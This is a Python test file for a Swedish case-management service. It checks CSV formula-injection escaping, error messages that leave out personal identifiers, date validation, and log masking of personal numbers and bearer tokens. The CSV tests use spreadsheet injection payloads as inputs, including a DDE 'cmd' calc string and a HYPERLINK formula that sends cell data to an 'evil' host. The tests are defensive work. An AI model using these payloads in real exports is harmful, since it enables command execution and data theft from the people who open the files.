"""Issue 22, the pure parts: CSV formula cells, amounts' errors without their text, the date
window of the contract, and the log redaction of tracebacks, request lines and tokens."""

from __future__ import annotations

import csv
import io
import logging

import pytest
import structlog
from pydantic import ValidationError

from services.diary.web import export_csv
from shared.apps.report.figures import COLUMNS
from shared.apps.report.render import to_csv
from shared.contract.events import decoder_for, envelope_model
from shared.contract.events.envelope import EventData
from shared.contract.topics import CARE_DAYS, SUPPORT_VISITS
from shared.kernel.csv_safe import safe_cell
from shared.kernel.money import to_money
from shared.service.logging import configure, mask_text
from shared.web.auth import new_token

from ..shared.examples import EXAMPLES

PNR = "19121212-1212"


# -- 9: CSV formula injection -----------------------------------------------------------------------
@pytest.mark.parametrize("cell", ["=HYPERLINK(\"http://x/\",\"klicka\")", "+1+cmd|' /C calc'!A0", "-2+3",
                                  "@SUM(A1)", "\tx", "\r=1"])
def test_formula_cells_are_neutralised(cell):
    assert safe_cell(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["Yttrande", "-120.00", "+46", "12", "", None, 7, "PN 2023/1"])
def test_ordinary_cells_and_numbers_are_kept(cell):
    assert safe_cell(cell) == cell


def test_the_diary_export_neutralises_a_formula_subject():
    entry = {"diary_number": "PN 2023/1", "registered_at": "2023-01-01T10:00:00+01:00", "direction": "in",
             "document_kind": "complaint", "case_id": "PN-2023-00001", "counterpart": "@evil",
             "subject": '=HYPERLINK("http://evil/?"&A1,"klicka")', "confidential": False}
    header, row = list(csv.reader(io.StringIO(export_csv([entry]).decode())))
    cells = dict(zip(header, row, strict=True))
    assert cells["ärendemening"] == "'" + entry["subject"] and cells["avsändare/mottagare"] == "'@evil"


def test_the_report_csv_neutralises_formula_labels():
    report = {"periods": {c: {"name": c} for c in COLUMNS},
              "sections": {"units": {"rows": [{"key": "=1+1", "label": "=cmd", **{c: 1 for c in COLUMNS}}]}},
              "trend": {"rows": []}}
    text = to_csv(report)
    assert "'=1+1" in text and "'=cmd" in text and ",=cmd" not in text


# -- 5: an amount's error names its type and length, never its text ---------------------------------
def test_a_bad_amount_is_not_copied_into_the_error():
    with pytest.raises(ValueError) as info:
        to_money(f"{PNR} pn_secret")
    assert PNR not in str(info.value) and "pn_secret" not in str(info.value)
    assert "str of 23 characters" in str(info.value)


# -- 10: dates in a sane window ----------------------------------------------------------------------
@pytest.mark.parametrize("topic,event_type,field", [(CARE_DAYS, "pn.care.day_recorded", "care_date"),
                                                     (SUPPORT_VISITS, "pn.support.visit_reported", "date")])
@pytest.mark.parametrize("day", ["9999-12-31", "0001-01-01", "1899-06-01"])
def test_a_date_outside_the_window_is_malformed_with_a_reason(topic, event_type, field, day):
    data = {**EXAMPLES[event_type], field: day}
    event = {"specversion": "1.0", "id": "e1", "source": "/t", "type": event_type, "time": "2023-07-02T10:00:00Z",
             "datacontenttype": "application/json", "data": data}
    with pytest.raises(ValidationError) as info:
        decoder_for(topic.event_types).validate_python(event)
    [error] = info.value.errors(include_url=False)
    assert error["loc"][-1] == field and "between 1970-01-01 and 2999-12-31" in error["msg"]


def test_a_date_inside_the_window_is_kept():
    cls = next(c for c in EventData.__subclasses__() if getattr(c, "event_type", "") == "pn.care.day_recorded")
    envelope_model(cls)  # the model builds
    assert cls.model_validate({**EXAMPLES["pn.care.day_recorded"], "care_date": "2999-12-31"})


# -- 5: logs: tracebacks, request lines, tokens -------------------------------------------------------
def test_mask_text_covers_encoded_personnummer_and_tokens_after_bearer_and_newlines():
    token, _ = new_token("x", "officer")
    for text in (f"GET /cases?patient={PNR} HTTP/1.1", "GET /x?p=19121212%2D1212 HTTP/1.1",
                 f"b'Authorization: Bearer\\r\\n{token}'", f"Bearer\r\n{token}", f"token={token}"):
        masked = mask_text(text)
        assert PNR not in masked and "19121212%2D1212" not in masked and token not in masked, masked


def test_stdlib_tracebacks_and_structlog_exceptions_are_masked():
    token, _ = new_token("x", "officer")
    out = io.StringIO()
    configure(service="t", level="INFO", fmt="json", stream=out)
    try:
        try:
            raise ValueError(f"Invalid header value: b'Bearer\\r\\n{token}' for /cases?patient={PNR}")
        except ValueError:
            logging.getLogger("aiohttp.server").exception("Error handling request")
            structlog.get_logger().exception("failed")
    finally:
        structlog.reset_defaults()
        logging.getLogger().handlers[:] = []
    text = out.getvalue()
    assert "Traceback" in text and "ValueError" in text  # the traceback is kept, masked
    assert token not in text and PNR not in text


def test_records_are_masked_even_through_a_handler_without_the_filter():
    """faust's worker installs its own root handler: the masking must not depend on ours."""
    token, _ = new_token("x", "officer")
    configure(service="t", level="INFO", fmt="json", stream=io.StringIO())
    out = io.StringIO()
    foreign = logging.StreamHandler(out)
    logging.getLogger().handlers[:] = [foreign]
    try:
        try:
            raise ValueError(f"Unexpected whitespace after header value: b' {token}' GET /x?patient={PNR}")
        except ValueError:
            logging.getLogger("aiohttp.server").error("Error handling request", exc_info=True)
        logging.getLogger("faust").warning("request line %s", f"GET /cases?p={PNR}")
    finally:
        structlog.reset_defaults()
        logging.getLogger().handlers[:] = []
    text = out.getvalue()
    assert "Traceback" in text and token not in text and PNR not in text
